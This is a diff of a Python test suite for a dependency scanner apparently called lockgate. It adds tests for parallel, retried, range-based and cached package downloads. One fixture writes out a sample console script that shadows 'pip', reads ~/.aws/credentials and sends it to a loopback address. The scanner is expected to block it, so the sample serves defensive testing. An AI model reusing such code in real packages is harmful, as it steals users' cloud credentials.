@@ -26,6 +26,7 @@ import traceback
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 import lgindex as L  # noqa: E402
+import faultserver  # noqa: E402
 
 REPO_ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 CORPUS_INDEX = os.path.join(os.path.dirname(REPO_ROOT), "shared", "corpus",
@@ -190,6 +191,12 @@ class Case:
         self._servers.append(s)
         return s.start()
 
+    def fault_server(self):
+        """A faultserver.FaultServer on loopback, stopped with the case."""
+        fs = faultserver.FaultServer(self.ca).__enter__()
+        self._servers.append(fs)
+        return fs
+
     def repo(self, *commits):
         """A repo with one commit per {path: text} dict, in order."""
         self._repo_n += 1
@@ -219,8 +226,8 @@ class Case:
         return Result(argv, p.returncode, p.stdout.decode(errors="replace"),
                       p.stderr.decode(errors="replace"), time.monotonic() - t0)
 
-    def check(self, repo, *args, index_url, ca=True, fmt="json", env=None,
-              base="HEAD~1", head="HEAD", cache=None):
+    def check_argv(self, repo, *args, index_url, ca=True, fmt="json",
+                   base="HEAD~1", head="HEAD", cache=None):
         """index_url=None: no --index-url; cache: a --cache-dir to reuse
         (default: a fresh one for every run)."""
         argv = ["check", "--repo", repo.path]
@@ -238,7 +245,13 @@ class Case:
             argv += ["--ca-bundle", self.ca.ca_pem]
         if fmt:
             argv += ["--format", fmt]
-        return self.run(*(argv + list(args)), env=env)
+        return argv + list(args)
+
+    def check(self, repo, *args, index_url, ca=True, fmt="json", env=None,
+              base="HEAD~1", head="HEAD", cache=None):
+        return self.run(*self.check_argv(repo, *args, index_url=index_url, ca=ca,
+                                         fmt=fmt, base=base, head=head, cache=cache),
+                        env=env)
 
     # -- assertions
     def expect(self, res, rc=None, subset=None, no_findings=None, note=""):
@@ -2003,6 +2016,462 @@ def case_insecure_http_index(t):
     res = t.check(repo2, "--allow-insecure-index", index_url=srv.http_simple_url)
     t.expect(res, rc=1, subset={"verdict": "block", "findings": [
         finding("index.insecure-http", severity="high", package=BENIGN)]})
+
+
+# ------------------------------------------------------ fetcher cases ----
+
+def _pins(*arts):
+    return reqs(*(pin(a, n, v) for a, n, v in arts))
+
+
+@case
+def case_parallel_downloads(t):
+    """Six changed packages: every file is fetched over one HTTP/2
+    connection (multiplexed), and all pass."""
+    srv = t.server()
+    arts = []
+    for i in range(6):
+        name = "par-pkg%d" % i
+        a = L.sdist(name, "1.0")
+        srv.add(name, "1.0", [a])
+        arts.append((a, name, "1.0"))
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": _pins(*arts)})
+    res = t.check(repo, "--jobs", "4", index_url=srv.index_url)
+    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
+                                "artifacts": [{"package": n, "verdict": "pass",
+                                               "read": "full"} for _, n, _ in arts]})
+    files = srv.requested("/files/")
+    if sorted(r.path for r in files) != sorted("/files/" + a.filename for a, _, _ in arts):
+        raise Fail("expected each file once; log:\n%s" % "\n".join(
+            "%s %s %d" % (r.method, r.path, r.status) for r in srv.requests()))
+    if any(r.protocol != "HTTP/2.0" for r in files):
+        raise Fail("files not fetched over HTTP/2: %r" % [r.protocol for r in files])
+    if len({r.connection for r in files}) != 1:
+        raise Fail("files not multiplexed on one connection: %r" %
+                   [r.connection for r in files])
+
+
+@case
+def case_jobs_usage(t):
+    for bad in ("0", "x", "1000"):
+        res = t.run("check", "--jobs", bad)
+        t.expect(res, rc=3, note="--jobs " + bad)
+    res = t.run("check", "--max-file-size", "1T")
+    t.expect(res, rc=3, note="--max-file-size 1T")
+
+
+def _wait_for(pred, timeout=20.0):
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if pred():
+            return True
+        time.sleep(0.05)
+    return False
+
+
+@case
+def case_retry_after_503(t):
+    """The file answers 503 with Retry-After: 1 until the test heals it;
+    lockgate waits, tries again and passes."""
+    flag = os.path.join(t.tmp, "fail-flag")
+    open(flag, "w").close()
+    srv = t.server(files_conf=L.fail_files(flag))
+    b = benign()
+    srv.add(BENIGN, "1.0", [b])
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
+    argv = [t.bin] + t.check_argv(repo, index_url=srv.index_url)
+    p = subprocess.Popen(argv, env=t.env(), stdout=subprocess.PIPE,
+                         stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
+    try:
+        seen = _wait_for(lambda: any(r.status == 503 for r in srv.requested("/files/")))
+        os.remove(flag)
+        out, err = p.communicate(timeout=RUN_TIMEOUT)
+    finally:
+        if p.poll() is None:
+            p.kill()
+            p.wait()
+    res = Result(argv, p.returncode, out.decode(errors="replace"),
+                 err.decode(errors="replace"), 0.0)
+    if not seen:
+        raise Fail("no 503 was ever served\n" + res.describe())
+    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
+                                "artifacts": [{"sha256": b.sha256, "verdict": "pass"}]})
+    got = [r.status for r in srv.requested("/files/" + b.filename)]
+    if got[0] != 503 or got[-1] != 200:
+        raise Fail("expected 503 then 200, got %r" % got)
+
+
+@case
+def case_permanent_503(t):
+    """A file that always answers 503: retried, then incomplete (exit 2),
+    never a pass."""
+    flag = os.path.join(t.tmp, "fail-flag")
+    open(flag, "w").close()
+    srv = t.server(files_conf=L.fail_files(flag))
+    b = benign()
+    srv.add(BENIGN, "1.0", [b])
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=2, subset={"verdict": "incomplete",
+                                "artifacts": [{"package": BENIGN, "verdict": "incomplete"}],
+                                "errors": [{"package": BENIGN, "message": ANY}]})
+    msg = res.json["errors"][0]["message"]
+    if "503" not in msg or "tries" not in msg:
+        raise Fail("error message should name the status and the tries: %r" % msg)
+    tries = len(srv.requested("/files/" + b.filename))
+    if tries != 4:
+        raise Fail("expected 1 try + 3 retries, got %d requests" % tries)
+
+
+@case
+def case_not_found_no_retry(t):
+    """A 404 on the file is final: one request, incomplete."""
+    srv = t.server()
+    b = benign()
+    srv.add(BENIGN, "1.0", [b])
+    os.remove(os.path.join(srv.root, "files", b.filename))
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=2, subset={"verdict": "incomplete"})
+    if len(srv.requested("/files/" + b.filename)) != 1:
+        raise Fail("a 404 was retried")
+
+
+@case
+def case_size_cap(t):
+    """A file over --max-file-size is incomplete, never truncated or passed."""
+    srv = t.server()
+    import random
+    b = L.sdist(BENIGN, "1.0", extra={"blob.bin": random.Random(2).randbytes(20000)})
+    srv.add(BENIGN, "1.0", [b])
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
+    res = t.check(repo, "--max-file-size", "8k", index_url=srv.index_url)
+    t.expect(res, rc=2, subset={"verdict": "incomplete",
+                                "artifacts": [{"verdict": "incomplete", "sha256": None}],
+                                "errors": [{"package": BENIGN, "message": ANY}]})
+    if "larger than 8192 bytes" not in res.json["errors"][0]["message"]:
+        raise Fail("the message should name the cap\n" + res.describe())
+
+
+def _lazy_setup(t, files_conf="", pth=None, purelib=False):
+    srv = t.server(files_conf=files_conf)
+    w = L.big_wheel("lazy-pkg", "1.0", pth=pth, purelib=purelib)
+    srv.add("lazy-pkg", "1.0", [w])
+    repo = t.repo({"requirements.txt": ""},
+                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
+    return srv, w, repo
+
+
+def _file_bytes(srv, w):
+    return sum(r.sent for r in srv.requested("/files/" + w.filename))
+
+
+@case
+def case_lazy_wheel_blocked(t):
+    """A 1.3 MB platform wheel is read by range requests (tail, members),
+    a small fraction of its bytes, and its malicious .pth still blocks."""
+    srv, w, repo = _lazy_setup(t, pth={"lazy_init.pth": L.MALICIOUS_PTH})
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=1, subset={
+        "verdict": "block",
+        "artifacts": [{"package": "lazy-pkg", "file": w.filename, "read": "lazy",
+                       "sha256": w.sha256, "verdict": "block"}],
+        "findings": [finding("wheel.pth-exec-line", path="lazy_init.pth",
+                             severity=OneOf(*BLOCKING))]})
+    got = srv.requested("/files/" + w.filename)
+    if not got or any(r.status != 206 or not r.range for r in got):
+        raise Fail("expected only range requests: %r" % got)
+    sent = _file_bytes(srv, w)
+    if sent * 5 > len(w.data):
+        raise Fail("lazy read took %d of %d bytes" % (sent, len(w.data)))
+
+
+@case
+def case_lazy_wheel_big_directory(t):
+    """A central directory larger than the 64 KiB tail is fetched by its
+    own range (round 2); the .pth still blocks."""
+    import random
+    srv = t.server()
+    extra = {"lazy_pkg/mod_%04d_%s.py" % (i, "x" * 60): "X = %d\n" % i for i in range(1500)}
+    extra["lazy_pkg/_blob.dat"] = random.Random(3).randbytes(1_300_000)
+    w = L.wheel("lazy-pkg", "1.0", pth={"lazy_init.pth": L.MALICIOUS_PTH}, extra=extra,
+                purelib=False)
+    srv.add("lazy-pkg", "1.0", [w])
+    repo = t.repo({"requirements.txt": ""},
+                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=1, subset={
+        "artifacts": [{"read": "lazy", "verdict": "block"}],
+        "findings": [finding("wheel.pth-exec-line", path="lazy_init.pth")]},
+        no_findings=[{"rule": "wheel.record-mismatch"}])
+    ranges = [r.range for r in srv.requested("/files/")]
+    if not any(rg.startswith("bytes=") and not rg.startswith("bytes=-") for rg in ranges) \
+            or len(ranges) < 3:
+        raise Fail("expected tail, directory and member ranges: %r" % ranges)
+
+
+@case
+def case_lazy_entry_point_module(t):
+    """A lazily read wheel whose console script shadows `pip`: the module
+    entry_points.txt names is read too (round 4), so the shadow is judged
+    with what the module does, as in a whole read."""
+    import random
+    cli = ("import os, urllib.request\n"
+           "def main():\n"
+           "    data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+           "    urllib.request.urlopen('http://127.0.0.1:9/c', data.encode())\n")
+    extra = {"lazy_pkg/cli.py": cli,
+             "lazy_pkg/_blob.dat": random.Random(4).randbytes(1_300_000),
+             "lazy_pkg-1.0.dist-info/entry_points.txt":
+                 "[console_scripts]\npip = lazy_pkg.cli:main\n"}
+    srv = t.server()
+    w = L.wheel("lazy-pkg", "1.0", extra=extra, purelib=False)
+    srv.add("lazy-pkg", "1.0", [w])
+    repo = t.repo({"requirements.txt": ""},
+                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
+    lazy = t.check(repo, index_url=srv.index_url)
+    full = t.check(repo, "--full-download", index_url=srv.index_url)
+    want = finding("wheel.console-script-shadow", severity="high")
+    t.expect(lazy, rc=1, subset={"artifacts": [{"read": "lazy", "verdict": "block"}],
+                                 "findings": [want]})
+    t.expect(full, rc=1, subset={"artifacts": [{"read": "full"}], "findings": [want]})
+    if not any(f["path"] == "lazy_pkg/cli.py" for f in lazy.json["findings"]):
+        raise Fail("the entry point's module was not scanned\n" + lazy.describe())
+
+
+@case
+def case_lazy_wheel_benign(t):
+    """A benign lazily read wheel passes with no RECORD complaint."""
+    srv, w, repo = _lazy_setup(t)
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
+                                "artifacts": [{"read": "lazy", "verdict": "pass"}]},
+             no_findings=[{"rule": "wheel.record-mismatch"}])
+
+
+@case
+def case_lazy_and_full_mixed(t):
+    """A lazy platform wheel and a malicious sdist in one change: the wheel
+    is read by range, the sdist whole (in the same first batch), and the
+    sdist blocks."""
+    srv = t.server()
+    w = L.big_wheel("lazy-pkg", "1.0")
+    m = L.demo_sdist()
+    srv.add("lazy-pkg", "1.0", [w])
+    srv.add("demo-pkg", "1.0", [m])
+    repo = t.repo({"requirements.txt": ""},
+                  {"requirements.txt": _pins((w, "lazy-pkg", "1.0"), (m, "demo-pkg", "1.0"))})
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=1, subset={"verdict": "block", "artifacts": [
+        {"package": "lazy-pkg", "read": "lazy", "verdict": "pass"},
+        {"package": "demo-pkg", "read": "full", "verdict": "block", "sha256": m.sha256}]})
+
+
+@case
+def case_lazy_fallback_no_ranges(t):
+    """nginx with max_ranges 0 ignores ranges: lockgate stops the 200 and
+    downloads the wheel in full; still blocked."""
+    srv, w, repo = _lazy_setup(t, files_conf="max_ranges 0;",
+                               pth={"lazy_init.pth": L.MALICIOUS_PTH})
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=1, subset={
+        "verdict": "block",
+        "artifacts": [{"file": w.filename, "read": "full", "verdict": "block"}],
+        "findings": [finding("wheel.pth-exec-line", path="lazy_init.pth")]})
+    if not any(r.status == 200 and not r.range for r in srv.requested("/files/")):
+        raise Fail("expected a whole download after the ignored range")
+
+
+@case
+def case_lazy_purelib_is_full(t):
+    """A Root-Is-Purelib wheel is read in full (wheel.native-in-purelib
+    needs every member's first bytes)."""
+    srv, w, repo = _lazy_setup(t, purelib=True)
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=0, subset={"artifacts": [{"read": "full", "sha256": w.sha256}]})
+
+
+@case
+def case_small_wheel_one_request(t):
+    """A wheel smaller than the 64 KiB tail: the one range request got all
+    of it, so it is hashed and verified like a whole download."""
+    w, res = _wheel_case(t, "pthdemo", "1.0", {"pthdemo_init.pth": L.MALICIOUS_PTH})
+    t.expect(res, rc=1, subset={"artifacts": [{"read": "full", "sha256": w.sha256,
+                                               "verdict": "block"}]})
+
+
+@case
+def case_small_wheel_swapped(t):
+    """Lock and index agree, the server sends another small wheel: the
+    bytes read are hashed, so hash.mismatch blocks."""
+    srv = t.server()
+    w = L.wheel("swapwheel", "1.0")
+    other = L.wheel("swapwheel", "1.0", module="# swapped\n").data
+    srv.add("swapwheel", "1.0", [w], serve_override={w.filename: other})
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(w, "swapwheel", "1.0") + "\n"})
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
+        finding("hash.mismatch", severity="critical", file=w.filename)]})
+
+
+@case
+def case_full_download_flag(t):
+    """--full-download: no range request at all."""
+    srv, w, repo = _lazy_setup(t, pth={"lazy_init.pth": L.MALICIOUS_PTH})
+    res = t.check(repo, "--full-download", index_url=srv.index_url)
+    t.expect(res, rc=1, subset={"artifacts": [{"read": "full", "verdict": "block"}]})
+    if any(r.range for r in srv.requested("/files/")):
+        raise Fail("--full-download sent a Range request")
+
+
+@case
+def case_cache_stats_clean(t):
+    """check fills the cache; a second check reads it (no file request);
+    cache stats counts it; clean --older-than keeps it; clean empties it."""
+    srv = t.server()
+    b = benign()
+    srv.add(BENIGN, "1.0", [b])
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
+    cache = t.mk("shared-cache")
+    t.expect(t.check(repo, "--cache-dir", cache, index_url=srv.index_url), rc=0)
+    before = len(srv.requested("/files/"))
+    t.expect(t.check(repo, "--cache-dir", cache, index_url=srv.index_url), rc=0)
+    if len(srv.requested("/files/")) != before:
+        raise Fail("the second run downloaded the cached file again")
+    res = t.run("cache", "stats", "--cache-dir", cache)
+    t.expect(res, rc=0)
+    if "sha256   1 entries, %d bytes" % len(b.data) not in res.stdout:
+        raise Fail("stats\n" + res.describe())
+    res = t.run("cache", "clean", "--older-than", "1", "--cache-dir", cache)
+    t.expect(res, rc=0)
+    if "sha256   0 entries" not in res.stdout:
+        raise Fail("clean --older-than 1 removed a fresh entry\n" + res.describe())
+    res = t.run("cache", "clean", "--cache-dir", cache)
+    t.expect(res, rc=0)
+    if "sha256   1 entries" not in res.stdout:
+        raise Fail("clean\n" + res.describe())
+    res = t.run("cache", "stats", "--cache-dir", cache)
+    if "total    0 entries" not in res.stdout:
+        raise Fail("cache not empty after clean\n" + res.describe())
+    for bad in (["cache"], ["cache", "frobnicate"], ["cache", "clean", "--older-than", "x"]):
+        t.expect(t.run(*bad, "--cache-dir", cache), rc=3, note=" ".join(bad))
+
+
+def _fault_case(t, plan):
+    """benign-pkg's sdist served by the fault server with plan."""
+    srv = t.server()
+    b = benign()
+    fs = t.fault_server()
+    fs.route("/f/" + b.filename, b.data, plan)
+    srv.add(BENIGN, "1.0", [b], file_urls={b.filename: fs.url("/f/" + b.filename)})
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
+    return b, fs, t.check(repo, index_url=srv.index_url)
+
+
+@case
+def case_fault_cut_then_ok(t):
+    """A connection cut mid-body is retried; the second try passes."""
+    b, fs, res = _fault_case(t, ["cut", "ok"])
+    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
+                                "artifacts": [{"sha256": b.sha256}]})
+    if fs.hits("/f/" + b.filename) != 2:
+        raise Fail("expected 2 requests, got %d" % fs.hits("/f/" + b.filename))
+
+
+@case
+def case_fault_cut_always(t):
+    """A connection cut on every try: incomplete, never a partial scan."""
+    b, fs, res = _fault_case(t, ["cut"])
+    t.expect(res, rc=2, subset={"verdict": "incomplete",
+                                "artifacts": [{"verdict": "incomplete", "sha256": None}]})
+
+
+@case
+def case_fault_429_http_date(t):
+    """429 with Retry-After as an HTTP date: waited for, then 200."""
+    b, fs, res = _fault_case(t, ["429-date", "ok"])
+    t.expect(res, rc=0, subset={"verdict": "pass"})
+    if res.secs < 0.9:
+        raise Fail("Retry-After (HTTP date, ~2 s) was not waited for: %.2fs" % res.secs)
+
+
+@case
+def case_fault_redirect_loop(t):
+    """A redirect loop ends at the redirect cap: incomplete."""
+    b, fs, res = _fault_case(t, ["redirect"])
+    t.expect(res, rc=2, subset={"verdict": "incomplete"})
+    if fs.hits("/f/" + b.filename) > 10:
+        raise Fail("followed %d redirects" % fs.hits("/f/" + b.filename))
+
+
+@case
+def case_fault_huge_length(t):
+    """A 2 GB Content-Length is refused before any body: incomplete, fast."""
+    b, fs, res = _fault_case(t, ["huge"])
+    t.expect(res, rc=2, subset={"verdict": "incomplete"})
+    if "larger than" not in res.json["errors"][0]["message"]:
+        raise Fail("the message should name the cap\n" + res.describe())
+
+
+def _run_with_tty_stderr(t, argv, env=None):
+    """Runs lockgate with stderr on a pseudo-terminal; returns (rc, stderr)."""
+    import pty
+    import select
+    master, slave = pty.openpty()
+    p = subprocess.Popen([t.bin] + argv, env=t.env(env), stdin=subprocess.DEVNULL,
+                         stdout=subprocess.PIPE, stderr=slave)
+    os.close(slave)
+    chunks = []
+    while True:
+        r, _, _ = select.select([master], [], [], 0.1)
+        if r:
+            try:
+                data = os.read(master, 65536)
+            except OSError:
+                data = b""
+            if not data and p.poll() is not None:
+                break
+            chunks.append(data)
+        elif p.poll() is not None:
+            break
+    p.communicate(timeout=RUN_TIMEOUT)
+    os.close(master)
+    return p.returncode, b"".join(chunks).decode(errors="replace")
+
+
+@case
+def case_progress_tty(t):
+    """On a terminal, check draws a progress line on stderr (files, bytes,
+    rate); --quiet silences it; NO_COLOR drops the bold."""
+    srv = t.server()
+    b = benign()
+    srv.add(BENIGN, "1.0", [b])
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
+    def argv():  # a fresh cache each time, so there is something to download
+        return t.check_argv(repo, index_url=srv.index_url)
+    rc, err = _run_with_tty_stderr(t, argv())
+    if rc != 0 or "downloading 1/1 files" not in err or "/s" not in err \
+            or "\033[1m" not in err:
+        raise Fail("expected a bold progress line, rc %d, stderr %r" % (rc, err))
+    rc, err = _run_with_tty_stderr(t, argv() + ["--quiet"])
+    if rc != 0 or "downloading" in err:
+        raise Fail("--quiet still drew progress: %r" % err)
+    rc, err = _run_with_tty_stderr(t, argv(), env={"NO_COLOR": "1"})
+    if rc != 0 or "downloading" not in err or "\033[1m" in err:
+        raise Fail("NO_COLOR: expected progress without bold: %r" % err)
+
+
+@case
+def case_quiet_not_tty(t):
+    """stderr is not a terminal here: no progress line, with or without --quiet."""
+    srv = t.server()
+    b = benign()
+    srv.add(BENIGN, "1.0", [b])
+    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
+    res = t.check(repo, index_url=srv.index_url)
+    t.expect(res, rc=0)
+    if "downloading" in res.stderr or "\r" in res.stderr:
+        raise Fail("progress written to a non-terminal\n" + res.describe())
 
 
 # ---------------------------------------------------------------- main ----
